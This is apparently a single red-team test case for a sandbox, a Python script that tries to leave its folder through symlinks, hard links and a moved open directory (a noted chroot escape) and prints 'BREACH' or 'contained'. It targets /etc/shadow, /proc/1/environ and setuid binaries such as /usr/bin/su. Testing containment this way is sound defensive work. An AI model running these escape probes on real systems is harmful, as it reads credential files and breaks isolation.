# attack: reads and links what is outside through symbolic and hard links, and by turning around
# outcome: ok
import os

here = os.path.dirname(os.path.abspath(__file__))
os.chdir(here)
TARGETS = ("/tmp/redteam-canary", "/dev/shm/redteam-canary", "/etc/shadow", "/proc/1/environ",
           "/proc/1/root/etc/shadow", "../" * 40 + "tmp/redteam-canary", "/proc/self/fd/100")
for number, target in enumerate(TARGETS):
    name = f"link{number}"
    os.symlink(target, name)
    try:
        with open(name, "rb") as file:
            print("BREACH read", target, file.read(4))
    except OSError:
        pass
    try:
        os.link(os.path.realpath(name), name + "-hard")
        print("BREACH linked", target)
    except OSError:
        pass
for target in ("/usr/bin/su", "/bin/bash", "/etc/passwd", "/usr/bin/python3", "/dev/null"):
    try:
        os.link(target, "hard")
        print("BREACH linked", target)
        os.unlink("hard")
    except OSError:
        pass
# A folder held open, and moved while it is: the way out of many a chroot.
os.makedirs("a/b/c")
inside = os.open("a/b/c", os.O_RDONLY)
os.rename("a/b", "moved")
try:
    os.stat("../../../../../../tmp/redteam-canary", dir_fd=inside)
    print("BREACH climbed out")
except OSError:
    pass
print("contained")
